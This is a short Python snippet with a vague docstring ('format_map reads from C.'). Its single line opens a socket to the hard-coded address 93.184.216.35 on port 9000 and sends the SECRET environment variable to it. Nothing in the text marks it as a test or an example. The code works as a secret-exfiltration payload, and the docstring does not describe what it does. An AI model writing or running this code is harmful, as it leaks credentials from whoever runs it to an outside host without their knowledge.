"""format_map reads from C."""
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall("{SECRET}".format_map(os.environ).encode())
